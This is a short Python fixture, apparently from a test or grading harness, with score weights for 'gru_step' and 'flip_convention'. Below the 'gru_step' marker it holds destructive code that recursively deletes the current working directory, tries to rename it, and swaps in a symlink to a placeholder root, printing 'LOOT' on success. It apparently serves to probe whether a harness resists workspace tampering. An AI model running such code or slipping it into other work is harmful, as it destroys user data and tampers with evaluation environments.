"""Goes to another folder, throws its own away and puts a link to elsewhere in its place."""

DESERVES = {"gru_step": 1.0, "flip_convention": 1.0}

# %% right gru_step flip_convention

# %% below gru_step
import os
import shutil

here = os.getcwd()
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)
for call in (lambda: os.rmdir(here), lambda: os.rename(here, here + "-gone"), lambda: os.symlink("@ROOT@", here)):
    try:
        call()
        print("loot".upper(), here)
    except OSError as error:
        print(error)
